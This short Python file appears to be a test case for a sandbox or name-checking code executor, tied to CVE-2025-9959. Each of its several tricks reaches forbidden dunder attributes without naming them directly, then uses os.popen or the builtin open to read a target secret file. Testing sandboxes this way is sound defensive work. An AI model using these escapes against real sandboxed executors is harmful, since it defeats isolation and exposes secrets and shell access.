"""Reach attributes with forbidden names by ways that a check of names may not see, as in CVE-2025-9959.

canary: secret
control: through
"""
import functools
import operator
import string

secret = TARGETS["secret"]
d = "_" * 2
chain = [f"{d}class{d}", f"{d}base{d}", f"{d}subclasses{d}"]
classes = functools.reduce(getattr, chain, ())()
kind = next(kind for kind in classes if kind.__name__ == "_wrap_close")
initializer = f"{d}init{d}.{d}globals{d}"


class Deceiver:
    """Hands its methods' names on by matching, where no attribute is named."""

    __match_args__ = (f"{d}init{d}",)


async def coroutine() -> None:
    pass


def matched() -> object:
    match kind:
        case type(__init__=found):
            return found.__globals__["open"]


for way in (
    lambda: operator.attrgetter(initializer)(kind)["popen"](f"cat {secret}").read(),
    lambda: object.__getattribute__(kind, f"{d}init{d}").__globals__["__builtins__"]["open"](secret).read(),
    lambda: string.Formatter().get_field(f"0.{initializer}[popen]", (kind,), {})[0](f"cat {secret}").read(),
    lambda: vars(kind)[f"{d}init{d}"].__builtins__["open"](secret).read(),
    lambda: operator.methodcaller(f"{d}subclasses{d}")(object)[0].__name__,
    lambda: coroutine().cr_frame.f_builtins["open"](secret).read(),
    lambda: __builtins__.__dict__["op" + "en"](secret).read(),
    lambda: globals()[f"{d}builtins{d}"].open(secret).read(),
    lambda: matched()(secret, 0),
):
    try:
        print(way())
    except Exception as error:
        print(repr(error))
